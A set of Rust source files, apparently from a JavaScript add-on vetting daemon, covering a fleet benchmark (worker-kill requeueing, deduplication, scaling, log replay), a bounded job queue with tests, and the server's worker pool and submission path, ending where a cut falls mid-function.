        sigobs::EventLog::in_memory(sigobs::Level::Info).with_tail_cap(16_384),
    );
    // Heartbeat/reap tuned down so the kill test runs in bench time.
    let cfg = FleetConfig {
        heartbeat: Duration::from_millis(100),
        reap_after: Duration::from_millis(400),
        log: Some(coord_log.clone()),
        metrics_dir: metrics_dir.map(Into::into),
        metrics_interval: Duration::from_millis(100),
        ..FleetConfig::default()
    };
    let coord = Coordinator::bind("127.0.0.1:0", cfg).expect("bind coordinator");
    let addr = coord.local_addr().to_string();
    println!(
        "serve_load --fleet: coordinator on {addr}, {nodes} worker node(s), {} corpus addons",
        addons.len()
    );
    let fleet_stat = |name: &str| coord.stats()["fleet"][name].as_f64().unwrap_or(-1.0);

    // Phase 1: worker kill. A client submits a job; a protocol-level
    // "doomed" worker joins, claims it, and dies without completing or
    // heartbeating. The reaper must requeue the claimed job, and the
    // client must still get the correct verdict — from a real worker
    // that joins later — with zero lost jobs.
    const VICTIM_SOURCE: &str = "var victim = 'held hostage';";
    let victim_addr = addr.clone();
    let victim = std::thread::spawn(move || {
        let mut c = Client::connect(victim_addr.as_str()).expect("connect victim");
        c.vet_source(Some("victim.js"), VICTIM_SOURCE).expect("vet victim")
    });
    let deadline = Instant::now() + Duration::from_secs(10);
    while fleet_stat("pending") < 1.0 {
        assert!(Instant::now() < deadline, "victim job never enqueued");
        std::thread::sleep(Duration::from_millis(5));
    }
    {
        let mut doomed = Client::connect(addr.as_str()).expect("connect doomed");
        let ack = doomed
            .request(&sigfleet::protocol::join_request("doomed"))
            .expect("join doomed");
        assert_eq!(ack["kind"], "join_ack");
        let wid = ack["worker"].as_str().expect("worker id").to_owned();
        let job = doomed
            .request(&sigfleet::protocol::claim_request(&wid, 2_000))
            .expect("claim doomed");
        assert_eq!(job["kind"], "job", "doomed worker must claim the victim");
    } // connection dropped mid-job: no complete, no further heartbeats
    while fleet_stat("jobs_requeued") < 1.0 {
        assert!(
            Instant::now() < deadline,
            "reaper never requeued the dead worker's job"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    println!("kill test: doomed worker reaped, victim job requeued");

    // Phase 2: fleet-wide dedup, made deterministic by timing: no live
    // worker exists yet, so concurrent identical submissions *must*
    // coalesce onto the one enqueued job rather than racing completion.
    const DEDUP_CLIENTS: usize = 8;
    const DEDUP_SOURCE: &str = "var dedup = 'x'; var y = dedup + dedup;";
    let barrier = Arc::new(std::sync::Barrier::new(DEDUP_CLIENTS));
    let dedup_clients: Vec<_> = (0..DEDUP_CLIENTS)
        .map(|_| {
            let addr = addr.clone();
            let barrier = Arc::clone(&barrier);
            std::thread::spawn(move || {
                let mut c = Client::connect(addr.as_str()).expect("connect dedup");
                barrier.wait();
                c.vet_source(Some("dedup.js"), DEDUP_SOURCE).expect("vet dedup")
            })
        })
        .collect();
    while fleet_stat("dedup_hits") < (DEDUP_CLIENTS - 1) as f64 {
        assert!(Instant::now() < deadline, "dedup submissions never coalesced");
        std::thread::sleep(Duration::from_millis(5));
    }

    // Phase 3: real worker nodes join (in-process, real pipeline, own
    // event logs) and drain the requeued victim plus the dedup job.
    let mut worker_logs = Vec::new();
    let workers: Vec<Worker> = (0..nodes)
        .map(|i| {
            let log = Arc::new(
                sigobs::EventLog::in_memory(sigobs::Level::Info).with_tail_cap(16_384),
            );
            worker_logs.push(log.clone());
            let mut wc = WorkerConfig::new(addr.clone());
            wc.node = format!("bench-{i}");
            wc.threads = 2;
            wc.claim_wait_ms = 100;
            wc.log = Some(log);
            Worker::join_fleet(wc, addon_sig::service_engine_traced).expect("join worker")
        })
        .collect();
    let victim_resp = victim.join().expect("victim thread");
    assert_eq!(victim_resp["verdict"], "ok", "requeued job must still vet");
    let victim_cold = addon_sig::analyze_addon(VICTIM_SOURCE).expect("cold victim");
    assert_eq!(
        victim_resp["signature"].to_string(),
        Json::parse(&victim_cold.signature.to_json()).unwrap().to_string(),
        "rescued job must produce the exact cold signature"
    );
    let dedup_resps: Vec<Json> = dedup_clients
        .into_iter()
        .map(|t| t.join().expect("dedup client"))
        .collect();
    for resp in &dedup_resps {
        assert_eq!(resp["verdict"], "ok");
        assert_eq!(
            resp["signature"].to_string(),
            dedup_resps[0]["signature"].to_string(),
            "all coalesced submissions share one result"
        );
    }
    println!(
        "dedup: {} concurrent identical submissions -> 1 analysis",
        DEDUP_CLIENTS
    );

    // Phase 4: whole-corpus byte-identity. Every fleet response must
    // carry the exact signature a cold local analysis produces (the
    // single-node `vet --json` bytes); a second pass must be all
    // shared-store hits.
    let mut client = Client::connect(addr.as_str()).expect("connect corpus");
    for a in &addons {
        let resp = client.vet_source(Some(a.name), a.source).expect("vet corpus");
        assert_eq!(resp["verdict"], "ok", "{} must vet cleanly", a.name);
        let cold = addon_sig::analyze_addon(a.source).expect("cold corpus");
        assert_eq!(
            resp["signature"].to_string(),
            Json::parse(&cold.signature.to_json()).unwrap().to_string(),
            "{}: fleet signature must be byte-identical to a cold analysis",
            a.name
        );
    }
    for a in &addons {
        let resp = client.vet_source(Some(a.name), a.source).expect("re-vet corpus");
        assert_eq!(resp["cached"], Json::Bool(true), "{}: second pass must hit", a.name);
    }
    println!("corpus: {} addons byte-identical, second pass all store hits", addons.len());

    // Phase 5: scaling sweep on fixed-service-time stubs, one fresh
    // coordinator per fleet size so no shared store warms the next run.
    const SCALE_JOBS: usize = 60;
    let mut throughputs: Vec<f64> = Vec::new();
    let mut sizes_json = Vec::new();
    for size in 1..=nodes {
        let c = Coordinator::bind("127.0.0.1:0", FleetConfig::default()).expect("bind scale");
        let caddr = c.local_addr().to_string();
        let ws: Vec<Worker> = (0..size)
            .map(|i| {
                let mut wc = WorkerConfig::new(caddr.clone());
                wc.node = format!("scale-{i}");
                wc.threads = 1; // one claim thread: service time is the 15ms stub
                wc.claim_wait_ms = 100;
                Worker::join_fleet(wc, sleep_stub).expect("join scale")
            })
            .collect();
        let mut cl = Client::connect(caddr.as_str()).expect("connect scale");
        let mut req = Json::obj();
        req.set("kind", Json::from("vet_batch"));
        req.set(
            "items",
            Json::Arr(
                (0..SCALE_JOBS)
                    .map(|i| {
                        let mut o = Json::obj();
                        o.set("name", Json::from(format!("scale{size}_{i}")));
                        o.set("source", Json::from(format!("var scale{size}_{i} = {i};")));
                        o
                    })
                    .collect(),
            ),
        );
        let t0 = Instant::now();
        let resp = cl.request(&req).expect("scale batch");
        let wall = t0.elapsed();
        assert_eq!(resp["kind"], "vet_batch_result");
        for r in resp["results"].as_array().expect("results") {
            assert_eq!(r["verdict"], "ok");
        }
        let ack = cl.shutdown().expect("scale shutdown");
        assert_eq!(ack["kind"], "shutdown_ack");
        c.join();
        for w in ws {
            w.join();
        }
        let tput = SCALE_JOBS as f64 / wall.as_secs_f64().max(1e-9);
        println!(
            "scale: {size} node(s): {SCALE_JOBS} jobs in {:.2}s ({tput:.0} jobs/s)",
            wall.as_secs_f64()
        );
        let mut o = Json::obj();
        o.set("nodes", Json::from(size as f64));
        o.set("wall_s", Json::from((wall.as_secs_f64() * 1e6).round() / 1e6));
        o.set("throughput_rps", Json::from((tput * 10.0).round() / 10.0));
        sizes_json.push(o);
        throughputs.push(tput);
    }
    let ratio = |n: usize| (throughputs[n - 1] / throughputs[0] * 100.0).round() / 100.0;
    if nodes >= 2 {
        assert!(
            ratio(2) >= 1.7,
            "2-node fleet must be >=1.7x 1-node throughput (got {:.2}x)",
            ratio(2)
        );
    }

    // Phase 6: shutdown, then merge the per-node logs causally and
    // replay the result — every job must resolve to one valid
    // lifecycle even though its events are spread across processes.
    let final_stats = coord.stats();
    let mut shut = Client::connect(addr.as_str()).expect("connect shutdown");
    let ack = shut.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    coord.join();
    for w in workers {
        w.join();
    }
    coord_log.flush();
    let coord_text = coord_log.tail_lines().join("\n");
    let worker_texts: Vec<(String, String)> = worker_logs
        .iter()
        .enumerate()
        .map(|(i, l)| {
            l.flush();
            (format!("bench-{i}"), l.tail_lines().join("\n"))
        })
        .collect();
    let mut merge_input: Vec<(&str, &str)> = vec![("coord", coord_text.as_str())];
    for (name, text) in &worker_texts {
        merge_input.push((name.as_str(), text.as_str()));
    }
    let merged = sigobs::merge_fleet_logs(&merge_input).expect("fleet logs must merge");
    let replay = sigobs::replay::replay_log(&merged).expect("merged log must replay");
    let outcome_count = |want: sigobs::replay::Outcome| {
        replay
            .timelines
            .values()
            .filter(|t| t.validate() == Ok(want))
            .count()
    };
    let computed = outcome_count(sigobs::replay::Outcome::Computed);
    let coalesced = outcome_count(sigobs::replay::Outcome::Coalesced);
    let store_hits = outcome_count(sigobs::replay::Outcome::CacheHit);
    assert_eq!(
        computed,
        addons.len() + 2,
        "each corpus addon, the victim, and the dedup job computed exactly once"
    );
    assert_eq!(coalesced, DEDUP_CLIENTS - 1, "the other dedup submissions coalesced");
    assert!(
        store_hits >= addons.len(),
        "second corpus pass must replay as store hits (got {store_hits})"
    );
    assert_eq!(
        replay.presumed_rejected, 0,
        "a clean fleet session has no enqueued-only orphans"
    );
    println!(
        "merged replay: {} jobs ({computed} computed, {store_hits} store hits, \
         {coalesced} coalesced), 0 lost",
        replay.timelines.len()
    );

    let mut doc = Json::obj();
    doc.set("schema", Json::from(1u32));
    doc.set("nodes", Json::from(nodes as f64));
    doc.set("corpus_addons", Json::from(addons.len() as f64));
    doc.set("scale_jobs", Json::from(SCALE_JOBS as f64));
    doc.set("sizes", Json::Arr(sizes_json));
    if nodes >= 2 {
        doc.set("ratio_2v1", Json::from(ratio(2)));
    }
    if nodes >= 3 {
        doc.set("ratio_3v1", Json::from(ratio(3)));
    }
    let mut fleet_json = Json::obj();
    for key in ["jobs_accepted", "jobs_completed", "jobs_requeued", "dedup_hits", "workers_reaped"] {
        fleet_json.set(key, Json::from(final_stats["fleet"][key].as_f64().unwrap_or(-1.0)));
    }
    doc.set("fleet", fleet_json);
    std::fs::write(out, doc.to_string_pretty() + "\n").expect("write fleet snapshot");
    println!("wrote {out}");
}
