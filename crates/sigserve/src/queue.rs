//! A bounded multi-producer multi-consumer job queue built on
//! `Mutex` + `Condvar` (std-only).
//!
//! The bound is the backpressure mechanism of the vetting daemon: when
//! submissions outpace the worker pool, [`Bounded::try_push`] fails
//! immediately and the protocol layer answers with a typed `overloaded`
//! response instead of queueing unboundedly and letting latency (and
//! memory) grow without limit.
//!
//! Lock poisoning is *recovered*, not propagated: the state is a plain
//! deque plus a flag, valid after any panic mid-critical-section, and
//! propagating poison would let one panicking worker cascade into every
//! producer and consumer touching the queue — exactly the crash
//! amplification a shedding daemon exists to avoid.

use std::collections::VecDeque;
use std::sync::{Condvar, Mutex, PoisonError};

/// Why a push was refused. The rejected item is handed back so the
/// caller can report on it.
#[derive(Debug)]
pub enum PushError<T> {
    /// The queue is at capacity; shed load.
    Full(T),
    /// The queue is shutting down; no new work is accepted.
    ShutDown(T),
}

struct Inner<T> {
    items: VecDeque<T>,
    shutting_down: bool,
}

/// A bounded MPMC queue. Producers never block (they get a
/// [`PushError::Full`] instead); consumers block in [`Bounded::pop`]
/// until an item arrives or shutdown drains the queue.
pub struct Bounded<T> {
    inner: Mutex<Inner<T>>,
    not_empty: Condvar,
    cap: usize,
}

impl<T> Bounded<T> {
    /// A queue holding at most `cap` pending items (`cap` >= 1).
    pub fn new(cap: usize) -> Bounded<T> {
        Bounded {
            inner: Mutex::new(Inner {
                items: VecDeque::new(),
                shutting_down: false,
            }),
            not_empty: Condvar::new(),
            cap: cap.max(1),
        }
    }

    /// Enqueues without blocking. Returns the queue depth after the push.
    pub fn try_push(&self, item: T) -> Result<usize, PushError<T>> {
        let mut inner = self.inner.lock().unwrap_or_else(PoisonError::into_inner);
        if inner.shutting_down {
            return Err(PushError::ShutDown(item));
        }
        if inner.items.len() >= self.cap {
            return Err(PushError::Full(item));
        }
        inner.items.push_back(item);
        let depth = inner.items.len();
        drop(inner);
        self.not_empty.notify_one();
        Ok(depth)
    }

    /// Dequeues, blocking while the queue is empty. Returns `None` once
    /// the queue is shutting down *and* drained — pending jobs accepted
    /// before shutdown are still completed.
    pub fn pop(&self) -> Option<T> {
        let mut inner = self.inner.lock().unwrap_or_else(PoisonError::into_inner);
        loop {
            if let Some(item) = inner.items.pop_front() {
                return Some(item);
            }
            if inner.shutting_down {
                return None;
            }
            inner = self
                .not_empty
                .wait(inner)
                .unwrap_or_else(PoisonError::into_inner);
        }
    }

    /// Stops accepting new work and wakes every blocked consumer.
    pub fn shutdown(&self) {
        self.inner
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .shutting_down = true;
        self.not_empty.notify_all();
    }

    /// Current number of pending items.
    pub fn len(&self) -> usize {
        self.inner
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .items
            .len()
    }

    /// True when nothing is pending.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// True when the queue is at capacity — the overload pre-check the
    /// submission path uses to shed *before* logging a lifecycle.
    /// Advisory under concurrency: a push can still race to `Full`.
    pub fn is_full(&self) -> bool {
        self.len() >= self.cap
    }

    /// The configured bound.
    pub fn capacity(&self) -> usize {
        self.cap
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    #[test]
    fn bounded_rejects_when_full() {
        let q = Bounded::new(2);
        assert_eq!(q.try_push(1).unwrap(), 1);
        assert_eq!(q.try_push(2).unwrap(), 2);
        match q.try_push(3) {
            Err(PushError::Full(3)) => {}
            other => panic!("expected Full(3), got {other:?}"),
        }
        assert_eq!(q.pop(), Some(1));
        assert_eq!(q.try_push(3).unwrap(), 2);
    }

    #[test]
    fn shutdown_drains_then_stops() {
        let q = Bounded::new(4);
        q.try_push("job").unwrap();
        q.shutdown();
        match q.try_push("late") {
            Err(PushError::ShutDown("late")) => {}
            other => panic!("expected ShutDown, got {other:?}"),
        }
        assert_eq!(q.pop(), Some("job"));
        assert_eq!(q.pop(), None);
    }

    #[test]
    fn concurrent_producers_and_consumers_see_every_item() {
        let q = Arc::new(Bounded::new(64));
        let total = 4 * 100;
        let consumers: Vec<_> = (0..4)
            .map(|_| {
                let q = Arc::clone(&q);
                std::thread::spawn(move || {
                    let mut got = Vec::new();
                    while let Some(v) = q.pop() {
                        got.push(v);
                    }
                    got
                })
            })
            .collect();
        let producers: Vec<_> = (0..4)
            .map(|p| {
                let q = Arc::clone(&q);
                std::thread::spawn(move || {
                    for i in 0..100 {
                        let mut item = p * 100 + i;
                        loop {
                            match q.try_push(item) {
                                Ok(_) => break,
                                Err(PushError::Full(back)) => {
                                    item = back;
                                    std::thread::yield_now();
                                }
                                Err(PushError::ShutDown(_)) => panic!("early shutdown"),
                            }
                        }
                    }
                })
            })
            .collect();
        for p in producers {
            p.join().unwrap();
        }
        q.shutdown();
        let mut all: Vec<usize> = consumers
            .into_iter()
            .flat_map(|c| c.join().unwrap())
            .collect();
        all.sort_unstable();
        assert_eq!(all, (0..total).collect::<Vec<_>>());
    }
}
