//! The daemon itself: shared state, the worker pool, the per-connection
//! protocol loop, and the TCP / stdio front ends.
//!
//! Data flow for one `vet` request:
//!
//! ```text
//! connection handler ──cache get──> hit ──> respond (cached:true, µs)
//!        │ miss
//!        ├─ queue full ──> respond overloaded (typed backpressure)
//!        └─ try_push(Job{key, source, resp}) ──> worker pool
//!                                                  │ peek cache (dedupe)
//!                                                  │ analyze under budget
//!                                                  │ insert cache
//!        respond (cached:false) <──mpsc── core result
//! ```
//!
//! Workers never die on behalf of a job: a runaway analysis is cut off by
//! the step budget / deadline inside `jsanalysis` and comes back as a
//! `timeout` core result like any other, and an analysis that panics
//! outright is contained with `catch_unwind` — counted in
//! `serve_worker_panics`, logged, answered as an error verdict — while
//! the worker keeps serving. Shared-state mutexes recover from
//! poisoning rather than propagate it, so a single panic can never
//! cascade into every subsequent handler.

use crate::cache::{cache_key, SigCache};
use crate::protocol::{
    error_response, metrics_response, overloaded_response, parse_request, vet_response, Request,
    Source, VetItem,
};
use crate::queue::{Bounded, PushError};
use crate::stats::{metrics_json, Stats};
use crate::{AnalyzeJobFn, MetricsRegistry, MetricsSnapshot, VetOutcome};
use jsanalysis::AnalysisConfig;
use minijson::Json;
use sigobs::{EventLog, Level, LogTracer};
use sigtrace::Trace;
use std::io::{self, BufRead, BufReader, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{mpsc, Arc, Mutex, PoisonError};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Daemon configuration (the `vet serve` flags).
#[derive(Debug, Clone)]
pub struct ServeConfig {
    /// Worker threads running analyses (default 4).
    pub workers: usize,
    /// Result-cache capacity in entries (default 1024; 0 disables).
    pub cache_cap: usize,
    /// Job-queue bound; pushes beyond it are shed with `overloaded`
    /// (default `workers * 8`).
    pub queue_cap: usize,
    /// The analysis configuration every job runs under, including the
    /// `step_budget` / `deadline` robustness knobs.
    pub analysis: AnalysisConfig,
    /// Dump the metrics-registry snapshot to stderr when the daemon
    /// shuts down (default `false`; `vet serve` turns it on). Off by
    /// default so embedded servers — tests, benches — stay quiet.
    pub dump_metrics_on_shutdown: bool,
    /// Structured event log (`vet serve --log FILE` / `--log-level`).
    /// Every job lifecycle event, keyed by the job's request ID, goes
    /// here; the ring tail also rides along in `stats` responses.
    /// Default `None`: no logging overhead at all.
    pub log: Option<Arc<EventLog>>,
    /// Metrics-history directory (`vet serve --metrics-dir D`). When
    /// set, a background thread snapshots the merged metrics into a
    /// bounded on-disk ring every [`ServeConfig::metrics_interval`], so
    /// metrics survive restarts. Default `None`.
    pub metrics_dir: Option<PathBuf>,
    /// Snapshot interval for the history thread (default 5 s).
    pub metrics_interval: Duration,
    /// On-disk history ring capacity in snapshots (default 256).
    pub metrics_history_cap: u64,
    /// In-daemon alert rules (`vet serve --alert-rules FILE`): the
    /// `metrics-report --gate` rule language, evaluated by the history
    /// thread against every appended snapshot. Threshold crossings emit
    /// `alert_fired` / `alert_cleared` log events. Needs
    /// [`ServeConfig::metrics_dir`]; default `None`.
    pub alert_rules: Option<sigobs::alerts::AlertRules>,
}

impl Default for ServeConfig {
    fn default() -> ServeConfig {
        let workers = 4;
        ServeConfig {
            workers,
            cache_cap: 1024,
            queue_cap: workers * 8,
            analysis: AnalysisConfig::default(),
            dump_metrics_on_shutdown: false,
            log: None,
            metrics_dir: None,
            metrics_interval: Duration::from_secs(5),
            metrics_history_cap: 256,
            alert_rules: None,
        }
    }
}

/// One queued vetting job.
struct Job {
    /// Request ID (`j-<n>`), carried through the queue so the worker's
    /// log records correlate with the submitting handler's.
    id: String,
    key: u64,
    source: String,
    resp: mpsc::Sender<Json>,
}

/// State shared by the acceptor, connection handlers, and workers.
struct Shared {
    analysis: AnalysisConfig,
    /// `analysis.canonical_string()`, computed once: the config half of
    /// every cache key.
    config_canon: String,
    workers: usize,
    queue: Bounded<Job>,
    cache: Mutex<SigCache>,
    stats: Stats,
    metrics: MetricsRegistry,
    analyze: Box<AnalyzeJobFn>,
    shutting_down: AtomicBool,
    dump_metrics_on_shutdown: bool,
    /// Structured event log, shared with whoever configured it.
    log: Option<Arc<EventLog>>,
    /// Source of per-job request IDs (`j-<n>`).
    job_seq: AtomicU64,
    metrics_dir: Option<PathBuf>,
    metrics_interval: Duration,
    metrics_history_cap: u64,
    alert_rules: Option<sigobs::alerts::AlertRules>,
    /// Bound address in TCP mode; used to poke the blocked acceptor on
    /// shutdown. `None` in stdio mode.
    addr: Option<SocketAddr>,
}

impl Shared {
    fn new(cfg: ServeConfig, analyze: Box<AnalyzeJobFn>, addr: Option<SocketAddr>) -> Shared {
        Shared {
            config_canon: cfg.analysis.canonical_string(),
            workers: cfg.workers.max(1),
            queue: Bounded::new(cfg.queue_cap.max(1)),
            cache: Mutex::new(SigCache::new(cfg.cache_cap)),
            stats: Stats::default(),
            metrics: MetricsRegistry::new(),
            analysis: cfg.analysis,
            analyze,
            shutting_down: AtomicBool::new(false),
            dump_metrics_on_shutdown: cfg.dump_metrics_on_shutdown,
            log: cfg.log,
            job_seq: AtomicU64::new(0),
            metrics_dir: cfg.metrics_dir,
            metrics_interval: cfg.metrics_interval,
            metrics_history_cap: cfg.metrics_history_cap,
            alert_rules: cfg.alert_rules,
            addr,
        }
    }

    fn lock_cache(&self) -> std::sync::MutexGuard<'_, SigCache> {
        // Recover, don't propagate: the LRU map stays structurally valid
        // if a holder panics, and propagating poison would turn one
        // panicking worker into a daemon-wide crash cascade.
        self.cache.lock().unwrap_or_else(PoisonError::into_inner)
    }

    fn next_job_id(&self) -> String {
        format!("j-{}", self.job_seq.fetch_add(1, Ordering::Relaxed))
    }

    fn log_event(&self, level: Level, event: &str, fields: &[(&str, Json)]) {
        if let Some(log) = &self.log {
            log.log(level, event, fields);
        }
    }

    /// The registry snapshot plus the daemon's own `Stats` counters and
    /// cache occupancy, under `serve_`-prefixed names — what `metrics`
    /// responses and the on-disk history both render, so the exposition
    /// covers the whole daemon, not just what the engine recorded.
    fn merged_snapshot(&self) -> MetricsSnapshot {
        let mut snap = self.metrics.snapshot();
        let read = |c: &std::sync::atomic::AtomicU64| c.load(Ordering::Relaxed);
        let cache = self.lock_cache().counters();
        let extra = [
            ("serve_jobs_accepted", read(&self.stats.jobs_accepted)),
            ("serve_jobs_rejected", read(&self.stats.jobs_rejected)),
            ("serve_jobs_completed", read(&self.stats.jobs_completed)),
            ("serve_protocol_errors", read(&self.stats.protocol_errors)),
            ("serve_cache_entries", cache.entries),
            ("serve_cache_evictions", cache.evictions),
        ];
        for (name, v) in extra {
            snap.counters.push((name.to_owned(), v));
        }
        snap.counters.sort();
        snap
    }

    fn stats_body(&self) -> Json {
        let mut body = self.stats.snapshot(
            self.lock_cache().counters(),
            self.workers,
            self.queue.len(),
            self.queue.capacity(),
        );
        body.set("metrics", metrics_json(&self.metrics.snapshot()));
        if let Some(log) = &self.log {
            // The in-memory ring tail: the last ~128 structured events,
            // so an operator gets recent history from a stats round-trip
            // even with no log file configured.
            body.set("log_tail", Json::Arr(log.tail()));
        }
        body
    }

    /// The shutdown dump: one compact JSON line on stderr so a service
    /// operator gets the full registry even without a final `stats`
    /// round-trip. Gated by `ServeConfig::dump_metrics_on_shutdown`.
    fn maybe_dump_metrics(&self) {
        if self.dump_metrics_on_shutdown {
            let snap = metrics_json(&self.metrics.snapshot());
            eprintln!("sigserve metrics: {}", snap.to_string_compact());
        }
    }
}

/// Runs one job's analysis, updates the counters, and caches the core
/// result. Deadline-based timeouts are *not* cached: they depend on
/// machine load, so a later resubmission deserves a fresh attempt, while
/// step-budget timeouts are deterministic and cache fine.
fn compute(shared: &Shared, key: u64, source: &str, job: &str) -> Json {
    let t0 = Instant::now();
    let outcome = {
        // Thread the job's request ID into the pipeline: at debug level
        // a LogTracer turns phase spans into `span` log events tagged
        // with this job's ID; otherwise the engine sees Trace::Off.
        let mut tracer = shared
            .log
            .as_ref()
            .filter(|l| l.enabled(Level::Debug))
            .map(|l| LogTracer::new(l, job));
        let trace = match tracer.as_mut() {
            Some(t) => Trace::On(t),
            None => Trace::Off,
        };
        (shared.analyze)(source, &shared.analysis, &shared.metrics, trace)
    };
    let vet = t0.elapsed();
    shared.stats.record_vet(vet);
    shared
        .metrics
        .record("serve_vet_us", vet.as_micros().min(u128::from(u64::MAX)) as u64);
    match &outcome {
        VetOutcome::Report { timings, .. } => {
            shared.stats.record_phases(timings.p1, timings.p2, timings.p3);
            shared.log_event(
                Level::Info,
                "job_computed",
                &[
                    ("job", Json::from(job)),
                    ("verdict", Json::from("ok")),
                    ("p1_us", Json::from(timings.p1.as_micros() as f64)),
                    ("p2_us", Json::from(timings.p2.as_micros() as f64)),
                    ("p3_us", Json::from(timings.p3.as_micros() as f64)),
                ],
            );
        }
        VetOutcome::Timeout { steps, elapsed } => {
            Stats::incr(&shared.stats.budget_aborts);
            shared.metrics.add("serve_budget_aborts", 1);
            shared.log_event(
                Level::Warn,
                "job_computed",
                &[
                    ("job", Json::from(job)),
                    ("verdict", Json::from("timeout")),
                    ("steps", Json::from(*steps as f64)),
                    ("elapsed_us", Json::from(elapsed.as_micros() as f64)),
                ],
            );
        }
        VetOutcome::Error { message } => {
            Stats::incr(&shared.stats.analysis_errors);
            shared.metrics.add("serve_analysis_errors", 1);
            shared.log_event(
                Level::Warn,
                "job_computed",
                &[
                    ("job", Json::from(job)),
                    ("verdict", Json::from("error")),
                    ("message", Json::from(message.as_str())),
                ],
            );
        }
    }
    let core = outcome.core_json();
    if outcome.cacheable(&shared.analysis) {
        shared.lock_cache().insert(key, core.clone(), job);
        shared.log_event(Level::Debug, "cache_insert", &[("job", Json::from(job))]);
    }
    core
}

/// Best-effort text of a panic payload (`&str` / `String` downcasts).
fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_owned()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_owned()
    }
}

fn worker_loop(shared: &Shared) {
    while let Some(job) = shared.queue.pop() {
        shared.log_event(
            Level::Info,
            "job_dequeued",
            &[("job", Json::from(job.id.as_str()))],
        );
        // Dedupe racing submissions of the same content: another worker
        // may have finished this key while the job sat in the queue.
        // (Bound before the match: a guard temporary in the scrutinee
        // would still be held when compute() re-locks the cache.)
        let cached = shared.lock_cache().peek(job.key);
        let core = match cached {
            Some((hit, producer)) => {
                shared.log_event(
                    Level::Info,
                    "cache_hit",
                    &[
                        ("job", Json::from(job.id.as_str())),
                        ("producer", Json::from(producer)),
                    ],
                );
                hit
            }
            None => {
                // A panicking analysis must cost exactly one job, not
                // the worker (and with it the daemon): contain it, count
                // it, and answer the submitter with an error verdict.
                match catch_unwind(AssertUnwindSafe(|| {
                    compute(shared, job.key, &job.source, &job.id)
                })) {
                    Ok(core) => core,
                    Err(payload) => {
                        let msg = panic_message(payload.as_ref());
                        shared.metrics.add("serve_worker_panics", 1);
                        shared.log_event(
                            Level::Error,
                            "worker_panic",
                            &[
                                ("job", Json::from(job.id.as_str())),
                                ("message", Json::from(msg.as_str())),
                            ],
                        );
                        // Terminal lifecycle for replay: the job *was*
                        // computed, with an error verdict. Not cached —
                        // a resubmission deserves a fresh attempt.
                        shared.log_event(
                            Level::Warn,
                            "job_computed",
                            &[
                                ("job", Json::from(job.id.as_str())),
                                ("verdict", Json::from("error")),
                                ("message", Json::from(msg.as_str())),
                            ],
                        );
                        VetOutcome::error(format!("worker panicked: {msg}")).core_json()
                    }
                }
            }
        };
        Stats::incr(&shared.stats.jobs_completed);
        // A disconnected submitter is fine; the result is cached anyway.
        let _ = job.resp.send(core);
    }
}

/// A submitted-but-not-yet-answered vet item, so batches can pipeline
/// all submissions across the worker pool before collecting any result.
enum PendingVet {
    /// Answered without a worker (cache hit, overload, bad path, ...);
    /// any terminal log events were already written at submit time.
    Ready(Json),
    /// In the worker pool; await the core result on the channel.
    Waiting {
        id: String,
        name: Option<String>,
        rx: mpsc::Receiver<Json>,
        t0: Instant,
    },
}

fn submit_vet(shared: &Shared, item: VetItem) -> PendingVet {
    let t0 = Instant::now();
    let (name, source) = match item.source {
        Source::Inline(s) => (item.name, s),
        Source::Path(p) => match std::fs::read_to_string(&p) {
            // A path submission defaults its display name to the path.
            Ok(s) => (item.name.or(Some(p)), s),
            Err(e) => {
                // Failed before entering the system: no job ID assigned,
                // logged as daemon narration rather than a lifecycle.
                shared.log_event(
                    Level::Warn,
                    "vet_path_error",
                    &[
                        ("path", Json::from(p.as_str())),
                        ("error", Json::from(format!("{e}"))),
                    ],
                );
                let mut core = Json::obj();
                core.set("verdict", Json::from("error"));
                core.set("message", Json::from(format!("{p}: {e}")));
                return PendingVet::Ready(vet_response(
                    &core,
                    item.name.as_deref().or(Some(&p)),
                    None,
                    false,
                    t0.elapsed().as_micros(),
                ));
            }
        },
    };
    let id = shared.next_job_id();
    let key = cache_key(&source, &shared.config_canon);
    if let Some((core, producer)) = shared.lock_cache().get(key) {
        shared.metrics.add("serve_cache_hits", 1);
        shared.log_event(
            Level::Info,
            "cache_hit",
            &[
                ("job", Json::from(id.as_str())),
                ("name", name.as_deref().map(Json::from).unwrap_or(Json::Null)),
                ("producer", Json::from(producer)),
            ],
        );
        let micros = t0.elapsed().as_micros();
        let resp = vet_response(&core, name.as_deref(), Some(&id), true, micros);
        shared.log_event(
            Level::Info,
            "job_done",
            &[
                ("job", Json::from(id.as_str())),
                ("micros", Json::from(micros as f64)),
                ("cached", Json::Bool(true)),
            ],
        );
        return PendingVet::Ready(resp);
    }
    shared.metrics.add("serve_cache_misses", 1);
    // Shed *before* logging the lifecycle: under sustained overload the
    // rejected stream must cost at most one (sampled) `job_rejected`
    // line per job, not an `enqueued` + `rejected` pair — otherwise the
    // log amplifies the very overload it is narrating. The pre-check is
    // advisory (a racing push can still hit Full below); that rare path
    // keeps the enqueued-then-rejected pair, which replay accepts.
    if shared.queue.is_full() {
        Stats::incr(&shared.stats.jobs_rejected);
        shared.log_event(
            Level::Warn,
            "job_rejected",
            &[
                ("job", Json::from(id.as_str())),
                ("reason", Json::from("overloaded")),
            ],
        );
        return PendingVet::Ready(overloaded_response(
            name.as_deref(),
            shared.queue.len(),
            shared.queue.capacity(),
        ));
    }
    // Log admission *before* try_push: once the job is in the queue a
    // worker can dequeue it immediately, and the log's seq order must
    // match the lifecycle order (enqueued < dequeued).
    shared.log_event(
        Level::Info,
        "job_enqueued",
        &[
            ("job", Json::from(id.as_str())),
            ("name", name.as_deref().map(Json::from).unwrap_or(Json::Null)),
            ("queue_depth", Json::from(shared.queue.len() as f64)),
        ],
    );
    let (tx, rx) = mpsc::channel();
